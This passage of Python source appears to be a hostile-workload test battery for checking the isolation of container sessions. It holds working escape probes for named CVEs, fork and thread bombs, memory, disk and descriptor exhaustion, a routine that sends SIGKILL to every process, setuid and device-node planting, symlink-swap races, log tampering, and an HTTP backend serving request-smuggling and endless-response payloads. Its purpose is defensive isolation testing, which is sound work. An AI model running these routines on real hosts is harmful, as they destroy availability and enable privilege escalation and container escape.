                         ("semaphores", LIBC.semget(0x7C0FFEE, 1, 0))):
        if number != -1:
            raise Reached(name)


@attack
def sockets_of_others():
    for port in (4711, *map(int, os.environ["HOSTILE_PORTS"].split(","))):
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
        except OSError:
            continue
        raise Reached(f"port {port}")


@attack
def cve_2020_15257():
    """Sockets without a file: of another session, and of the host, as containerd's shims had."""
    names = ["hostile-trace", os.environ["HOSTILE_SOCKET"]]
    for line in read("/proc/net/unix", 1 << 20).decode().splitlines()[1:]:
        if any(name in line for name in names):
            raise Reached(line)
    for name in names:
        try:
            client = socket.socket(socket.AF_UNIX)
            client.connect("\0" + name)
        except OSError:
            continue
        raise Reached(f"the socket {name}")


def shared_files():
    return ["/dev/null", "/dev/zero", "/dev/full", "/dev/urandom", "/dev/random", "/bin/busybox"]


@attack
def locks_of_others():
    """flock and POSIX locks on inodes that sessions share."""
    for path in shared_files():
        try:
            descriptor = os.open(path, os.O_RDWR if path.startswith("/dev") else os.O_RDONLY)
        except OSError:
            continue
        try:
            fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            raise Reached(f"flock of {path}") from None
        except OSError:
            pass
        if path.startswith("/dev"):
            try:
                fcntl.lockf(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                raise Reached(f"a POSIX lock of {path}") from None
            except OSError:
                pass


@attack
def leases_of_others():
    for path in ("/bin/busybox", "/usr/bin/python3", "/etc/passwd"):
        begun = time.monotonic()
        try:
            os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        except BlockingIOError:
            raise Reached(f"a lease of {path}") from None
        except OSError:
            pass
        if time.monotonic() - begun > 2:
            raise Reached(f"waiting for {path}")


# Helpers that the battery judges from outside


def hold_traces():
    """Listens, locks, leases and watches what another session shares, until it is killed."""
    server = socket.create_server(("127.0.0.1", 4711))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind("\0hostile-trace")
    unix.listen()
    held = []
    for path in shared_files():
        try:
            descriptor = os.open(path, os.O_RDWR if path.startswith("/dev") else os.O_RDONLY)
            held.append(descriptor)
            fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
        try:
            fcntl.lockf(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
    for path in ("/bin/busybox", "/usr/bin/python3", "/etc/passwd"):
        try:
            descriptor = os.open(path, os.O_RDONLY)
            held.append(descriptor)
            fcntl.fcntl(descriptor, 1024, fcntl.F_RDLCK)
        except OSError:
            continue
    watch = LIBC.inotify_init1(os.O_NONBLOCK)
    for path in (*shared_files(), "/dev", "/dev/pts"):
        LIBC.inotify_add_watch(watch, path.encode(), 0xFFF)
    # What its own preparations have caused.
    try:
        os.read(watch, 1 << 16)
    except BlockingIOError:
        pass
    print("holding", flush=True)
    while True:
        select.select([watch], [], [])
        data = os.read(watch, 1 << 16)
        print("noticed", len(data), flush=True)
        del server, unix
        server = unix = None
        time.sleep(3600)


def touch_shared():
    for path in shared_files():
        try:
            descriptor = os.open(path, os.O_RDWR if path.startswith("/dev") else os.O_RDONLY)
            if path == "/dev/null":
                os.write(descriptor, b"x")
            os.read(descriptor, 1)
            os.close(descriptor)
        except OSError:
            pass


def first_descriptors():
    """Descriptors beyond the standard three; the listing's own is one."""
    names = sorted(int(name) for name in os.listdir("/proc/self/fd"))
    more = []
    for number in names:
        if number > 2:
            try:
                more.append((number, os.readlink(f"/proc/self/fd/{number}")))
            except OSError:
                continue
    print("descriptors", more, flush=True)


def show_first_descriptors():
    first_descriptors()
    sleep_long()


def sleep_long():
    time.sleep(3600)


def work_directory():
    """Whether this work directory is inside the session."""
    directory = os.open(".", os.O_PATH | os.O_DIRECTORY)
    inside = top_of(directory) == own_root()
    print("inside" if inside else f"OUTSIDE {os.listdir('.')[:8]}", flush=True)


def link_to_descriptors(path):
    """Replaces a work directory by links to descriptors, one after the other."""
    os.makedirs("/work", exist_ok=True)
    for number in range(3, 40):
        link = f"/work/{number}"
        if not os.path.lexists(link):
            os.symlink(f"/proc/self/fd/{number}", link)


def watch_entering(seconds):
    """CVE-2016-9962 and CVE-2019-5736: looks at each process that enters the session."""
    own = own_root()
    known = {name for name in os.listdir("/proc") if name.isdigit()}
    end = time.monotonic() + float(seconds)
    print("watching", flush=True)
    held = []
    seen = set()
    while time.monotonic() < end:
        for pid in {name for name in os.listdir("/proc") if name.isdigit()} - known:
            seen.add(pid)
            try:
                links = [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                links = []
            for link in [*links, f"/proc/{pid}/cwd", f"/proc/{pid}/root"]:
                try:
                    directory = os.open(link, os.O_PATH | os.O_DIRECTORY)
                except OSError:
                    continue
                try:
                    if top_of(directory) != own and os.readlink(link).startswith("/"):
                        print("reached:", link, "leads to", os.readlink(link), flush=True)
                except OSError:
                    pass
                os.close(directory)
            try:
                program = os.open(f"/proc/{pid}/exe", os.O_PATH)
            except OSError:
                continue
            name = os.readlink(f"/proc/self/fd/{program}")
            try:
                inside = os.path.samestat(os.fstat(program), os.stat(name))
            except OSError:
                inside = False
            if inside or len(held) > 64:
                os.close(program)
            else:
                held.append((program, name))
    for program, name in held:
        try:
            os.open(f"/proc/self/fd/{program}", os.O_WRONLY)
        except OSError as error:
            if error.errno == errno.ETXTBSY:
                print("reached: a program of the host,", name, flush=True)
            continue
        print("reached: a program of the host,", name, flush=True)
    print(f"watched {len(seen)} processes to the end", flush=True)


def forge_death(how):
    """What makes this process look dead to its parent."""
    print("forging", flush=True)
    # Time for the battery to see the session running.
    time.sleep(1)
    if how == "trace":
        if LIBC.ptrace(0, 0, 0, 0) != 0:
            print("refused", flush=True)
        os.kill(os.getpid(), signal.SIGTRAP)
        LIBC.syscall(39)
    elif how == "stop":
        # Without an init it would ignore this, as the first process of its namespace.
        os.kill(os.getpid(), signal.SIGSTOP)
    elif how == "exec":
        LIBC.ptrace(0, 0, 0, 0)
        signal.signal(signal.SIGUSR1, signal.SIG_DFL)
        os.kill(os.getpid(), signal.SIGTRAP)
        time.sleep(1)
        sys.exit(7)
    while True:
        time.sleep(1)


def take_inotify():
    taken = []
    while len(taken) < 2000:
        descriptor = LIBC.inotify_init1(0)
        if descriptor < 0:
            break
        taken.append(descriptor)
    print("taken", len(taken), flush=True)
    time.sleep(3600)


def take_watches(most):
    """Inotify watches, one for each directory."""
    watch = LIBC.inotify_init1(0)
    taken = 0
    os.makedirs("/tmp/watched", exist_ok=True)
    for number in range(int(most)):
        path = f"/tmp/watched/{number}"
        os.mkdir(path)
        if LIBC.inotify_add_watch(watch, path.encode(), 2) < 0:
            break
        taken += 1
    print("taken", taken, flush=True)
    time.sleep(3600)


def take_signals():
    resource.setrlimit(11, (resource.getrlimit(11)[1],) * 2)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    information = struct.pack("<iii", signal.SIGRTMIN, 0, -1) + bytes(116)
    taken = 0
    while taken < 20_000:
        try:
            call(129, os.getpid(), int(signal.SIGRTMIN), information)
        except OSError:
            break
        taken += 1
    print("taken", taken, flush=True)
    time.sleep(3600)


def take_queues():
    """Bytes of POSIX message queues."""

    class Attributes(ctypes.Structure):
        _fields_ = [(name, ctypes.c_long) for name in ("flags", "maxmsg", "msgsize", "now")]

    LIBC.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
    taken = 0
    for user in range(16):
        reader, writer = os.pipe()
        if os.fork() == 0:
            os.setuid(1000 + user)
            count = 0
            for number in range(64):
                attributes = Attributes(0, 10, 8192, 0)
                name = f"/hostile-{user}-{number}".encode()
                if LIBC.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(attributes)) < 0:
                    break
                count += 1
            os.write(writer, struct.pack("<I", count))
            time.sleep(3600)
        taken += struct.unpack("<I", os.read(reader, 4))[0]
    print("taken", taken * 82_000, flush=True)
    time.sleep(3600)


def hold_one():
    return socket.socketpair()


def hold_timer():
    identifier = ctypes.c_int(0)
    call(222, 1, 0, ctypes.byref(identifier))


def hold_trigger():
    descriptor = os.open("/proc/pressure/cpu", os.O_RDWR | os.O_NONBLOCK)
    os.write(descriptor, b"some 150000 2000000\0")
    return descriptor


def hold_file():
    descriptor = os.open("/tmp/burden", os.O_CREAT | os.O_RDWR)
    os.unlink("/tmp/burden")
    os.posix_fallocate(descriptor, 0, 2 << 20)
    return descriptor


def hold_watch():
    watch = LIBC.inotify_init1(0)
    if watch < 0 or LIBC.inotify_add_watch(watch, b"/tmp", 2) < 0:
        raise OSError("inotify")
    return watch


def hold_nest():
    """Descriptors that wait for descriptors, four deep."""
    last = os.eventfd(0)
    held = [last]
    for _ in range(4):
        outer = select.epoll()
        outer.register(last, select.EPOLLIN)
        held.append(outer)
        last = outer.fileno()
    return held


def hold_connection(server=[]):
    if not server:
        server.append(socket.create_server(("127.0.0.1", 0), backlog=64))
    client = socket.create_connection(server[0].getsockname())
    return client, server[0].accept()


def hold_mapping():
    return mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)


def hold_filter():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    program = one_instruction(0xFFFFFFFF)
    call(54, one.fileno(), 1, 26, program, len(program))
    return one


# What a session can leave to the kernel to clean up, and how much of each.
BURDENS = {
    "sockets": (hold_one, 5_000), "timers": (hold_timer, 8_000), "triggers": (hold_trigger, 1_000),
    "files": (hold_file, 20), "watches": (hold_watch, 2_000), "nests": (hold_nest, 1_000),
    "connections": (hold_connection, 1_000), "mappings": (hold_mapping, 5_000),
    "filters": (hold_filter, 2_000),
    "pipes": (os.pipe, 2_000), "terminals": (os.openpty, 1_000),
    "nulls": (lambda: os.open("/dev/null", os.O_RDWR), 50_000),
}


def burden(kind):
    """Takes as many of these as it gets, and holds them until it is killed."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    hold, most = BURDENS[kind]
    held = []
    error = "all"
    try:
        while len(held) < most:
            held.append(hold())
    except OSError as stopped:
        error = stopped
    print("burdened", len(held), error, flush=True)
    time.sleep(3600)


def fill_memory(how, mebibytes):
    """Takes this much memory and says so; a session with a limit is killed or refused before."""
    wanted = int(mebibytes) << 20
    chunk = bytes(1 << 20)
    taken = 0
    held = []
    try:
        if how == "anonymous":
            while taken < wanted:
                held.append(bytearray(b"x") * (1 << 20))
                taken += 1 << 20
        elif how == "memfd":
            file = os.memfd_create("hostile")
            while taken < wanted:
                taken += os.write(file, chunk)
        elif how == "sysv":
            LIBC.shmat.restype = ctypes.c_void_p
            while taken < wanted:
                number = LIBC.shmget(0, 8 << 20, 0o1600)
                if number < 0:
                    break
                address = LIBC.shmat(number, None, 0)
                ctypes.memset(address, 1, 8 << 20)
                taken += 8 << 20
        elif how == "pipes":
            resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(
                resource.RLIMIT_NOFILE)[1],) * 2)
            while taken < wanted:
                reader, writer = os.pipe2(os.O_NONBLOCK)
                held.append((reader, writer))
                try:
                    fcntl.fcntl(writer, 1031, 1 << 20)
                except OSError:
                    pass
                try:
                    taken += os.write(writer, chunk)
                except BlockingIOError:
                    break
        elif how == "sockets":
            resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(
                resource.RLIMIT_NOFILE)[1],) * 2)
            while taken < wanted:
                one, other = socket.socketpair()
                held.append((one, other))
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                try:
                    while True:
                        taken += one.send(chunk)
                except BlockingIOError:
                    pass
        elif how == "listeners":
            while taken < wanted:
                held.append(socket.create_server(("127.0.0.1", 0)))
                client = socket.create_connection(held[-1].getsockname())
                held.append(client)
                client.setblocking(False)
                try:
                    while True:
                        taken += client.send(chunk)
                except BlockingIOError:
                    pass
    except OSError as error:
        print("stopped", taken, error, flush=True)
        return
    print("taken", taken, flush=True)
    time.sleep(3600)


def cpu_share(threads, seconds):
    """CPU time that children of this process get, in thousandths of a CPU."""
    children = []
    begun = time.monotonic()
    for _ in range(int(threads)):
        child = os.fork()
        if child == 0:
            end = begun + float(seconds)
            while time.monotonic() < end:
                pass
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    used = os.times()
    passed = time.monotonic() - begun
    share = (used.children_user + used.children_system) / passed
    print("share", int(share * 1000), flush=True)
    # Its log is gone once it ends.
    time.sleep(3600)


def fork_bomb():
    print("forking", flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def thread_bomb():
    print("forking", flush=True)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            time.sleep(1)


def fill_disk(how, mebibytes):
    """Takes disk space and says how much; harmless below the limits of the battery."""
    wanted = int(mebibytes) << 20
    chunk = os.urandom(1 << 20)
    taken = 0
    try:
        if how == "inodes":
            os.makedirs("/tmp/many", exist_ok=True)
            while taken < int(mebibytes):
                os.close(os.open(f"/tmp/many/{taken}", os.O_CREAT | os.O_WRONLY))
                taken += 1
        else:
            path = "/dev/shm/large" if how == "shm" else "/tmp/large"
            file = os.open(path, os.O_CREAT | os.O_RDWR)
            if how == "unlinked":
                os.unlink("/tmp/large")
            if how == "fallocate":
                os.posix_fallocate(file, 0, wanted)
                taken = wanted
            while taken < wanted:
                taken += os.write(file, chunk)
    except OSError as error:
        print("stopped", taken, error, flush=True)
        time.sleep(3600)
    print("taken", taken, flush=True)
    time.sleep(3600)


def abuse_log(how):
    """Attacks its own log through /dev/stdout."""
    print("begun", flush=True)
    log = os.open("/dev/stdout", os.O_WRONLY)
    try:
        if how == "fallocate":
            # FALLOC_FL_KEEP_SIZE: blocks that the size does not show.
            call(285, log, 1, 0, 256 << 20)
        elif how == "lease":
            own = os.open("/dev/stdout", os.O_RDONLY)
            fcntl.fcntl(own, 1024, fcntl.F_WRLCK)
        elif how == "lease-write":
            os.close(log)
            fcntl.fcntl(1, 1024, fcntl.F_WRLCK)
        elif how == "chmod":
            os.fchmod(1, 0o6777)
        elif how == "truncate":
            os.ftruncate(1, 1 << 40)
        elif how == "erase":
            os.ftruncate(1, 0)
        elif how == "overwrite":
            plain = os.open("/proc/self/fd/1", os.O_WRONLY)
            os.pwrite(plain, b"fake!\n", 0)
        elif how == "flood":
            line = b"x" * 4095 + b"\n"
            for _ in range(64 << 8):
                os.write(1, line)
        elif how == "lock":
            fcntl.flock(1, fcntl.LOCK_EX)
            fcntl.lockf(1, fcntl.LOCK_EX)
    except OSError as error:
        os.write(2, f"refused: {error}\n".encode())
    os.write(2, b"done\n")
    time.sleep(3600)


def kill_everything():
    """SIGKILL to all that it may signal, but itself."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in range(2, 65536):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    print("done", flush=True)


def in_bind(how, path):
    """Leaves something in a bind that must not be more on the host."""
    try:
        if how == "suid":
            with open("/bin/busybox", "rb") as source, open(f"{path}/suid", "wb") as copy:
                copy.write(source.read())
            os.chmod(f"{path}/suid", 0o6755)
        elif how == "node":
            os.mknod(f"{path}/node", stat.S_IFBLK | 0o666, os.makedev(8, 0))
        elif how == "chown":
            with open(f"{path}/owned", "wb"):
                pass
            os.chown(f"{path}/owned", 0, 0)
        elif how == "capability":
            with open(f"{path}/capable", "wb") as copy:
                copy.write(b"\x7fELF")
            value = struct.pack("<6I", 0x03000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0, 0)
            os.setxattr(f"{path}/capable", "security.capability", value[:20] + b"\0\0\0\0")
        elif how == "write":
            with open(f"{path}/written", "wb"):
                pass
    except OSError as error:
        print("refused", error, flush=True)
        return
    print("done", flush=True)


def swap_link(directory, name, target, seconds):
    """Exchanges a directory for a symbolic link, as fast as it can."""
    os.chdir(directory)
    os.makedirs(name, exist_ok=True)
    try:
        os.symlink(target, f"{name}.link")
    except FileExistsError:
        pass
    end = time.monotonic() + float(seconds)
    print("swapping", flush=True)
    while time.monotonic() < end:
        call(316, -100, name.encode(), -100, f"{name}.link".encode(), 2)


ANSWERS = {
    "cookie-domain": "Set-Cookie: a=b; Domain=127.0.0.1; Path=/\r\nSet-Cookie: c=d; Domain=localhost",
    "cookie-own": "Set-Cookie: __Host-conman=x; Path=/; Secure\r\nSet-Cookie: conman=x; Path=/"
                  "\r\nSet-Cookie: conman_session=x; Path=/",
    "cookie-path": "Set-Cookie: planted=1; Path=/",
    "worker": "Service-Worker-Allowed: /",
    "clear": 'Clear-Site-Data: "*"',
    "hsts": "Strict-Transport-Security: max-age=31536000; includeSubDomains",
    "web-server": "X-Accel-Redirect: /s/other/\r\nX_Accel-Redirect: /s/other/\r\nX-Sendfile: /etc/passwd"
                  "\r\nX-LiteSpeed-Location: /s/other/\r\nSurrogate-Control: content=\"ESI/1.0\"",
    "alternative": 'Alt-Svc: h2="127.0.0.1:1"; ma=86400',
}


def serve():
    """An HTTP backend that answers as its requests' paths want it, in a thread for each."""
    server = socket.create_server(("127.0.0.1", 8080), backlog=256)
    while True:
        client, _ = server.accept()
        threading.Thread(target=serve_one, args=(client,), daemon=True).start()


def serve_one(client):
    head = b""
    while b"\r\n\r\n" not in head:
        data = client.recv(65536)
        if not data:
            return
        head += data
    path = head.split(b" ")[1].split(b"?")[0].decode()
    name = path.rsplit("/", 1)[1]
    try:
        answer_as(client, name, head)
        client.shutdown(socket.SHUT_WR)
        client.settimeout(1)
        client.recv(1 << 16)
    except OSError:
        pass
    client.close()


def answer_as(client, name, head):
    plain = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n"
    if name in ANSWERS:
        client.sendall(plain + ANSWERS[name].encode() + b"\r\n\r\nok\n")
    elif name == "early":
        # 103 Early Hints without end.
        while True:
            client.sendall(b"HTTP/1.1 103 Early Hints\r\nLink: </a>; rel=preload\r\n\r\n")
    elif name == "trickle-head":
        client.sendall(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        while True:
            client.sendall(b"x")
            time.sleep(0.5)
    elif name == "endless-head":
        client.sendall(b"HTTP/1.1 200 OK\r\n")
        while True:
            client.sendall(b"X-Field: " + b"x" * 4000 + b"\r\n")
    elif name == "endless-line":
        client.sendall(b"HTTP/1.1 200 ")
        while True:
            client.sendall(b"x" * 65536)
    elif name == "two-lengths":
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 60\r\n\r\nok\n"
                       b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled")
    elif name == "length-and-chunks":
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"
                       b"0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled")
    elif name == "more-than-length":
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"
                       b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled")
    elif name == "bare-feed":
        client.sendall(b"HTTP/1.1 200 OK\r\nX-A: b\rInjected: yes\r\nContent-Length: 3\r\n\r\nok\n")
    elif name == "unasked-upgrade":
        client.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
                       b"Upgrade: websocket\r\n\r\nsmuggled")
        time.sleep(2)
    elif name == "endless-body":
        client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
        while True:
            client.sendall(chunk)
    elif name == "huge-chunk":
        client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                       b"FFFFFFFFFFFFFFFFF\r\nxx")
    elif name == "frame":
        client.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
                       b"Upgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
                       b"\r\n\r\n\x82\x7f\x7f\xff\xff\xff\xff\xff\xff\xff")
        time.sleep(5)
    elif name == "flood":
        client.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
                       b"Upgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
                       b"\r\n\r\n")
        frame = b"\x82\x7e\xff\xff" + b"x" * 65535
        while True:
            client.sendall(frame)
    else:
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
                       % (len(head), head))


def report(name):
    """One attack in a process of its own, which its crash does not take along."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        signal.alarm(PATIENCE_S)
        try:
            ATTACKS[name]()
            line = "held: refused"
        except Reached as reached:
            line = f"reached: {reached}"
        except BaseException as error:
            where = traceback.extract_tb(error.__traceback__)[-1].lineno
            line = f"broken: line {where}: {error!r}"
        os.write(writer, " ".join(line.split()).encode()[:4000])
        os._exit(0)
    os.close(writer)
    line = b""
    while data := os.read(reader, 4096):
        line += data
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    os.close(reader)
    # On a line of its own, whatever the attack has put into its terminal.
    print("\n" + name, line.decode() or f"broken: ended with {code}", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "try":
        for attack_name in sys.argv[2:]:
            report(attack_name)
        print("tried all", flush=True)
        # As the session's program: process 1, or the child of its init.
        if 1 in (os.getpid(), os.getppid()):
            sleep_long()
    else:
        globals()[sys.argv[1]](*sys.argv[2:])
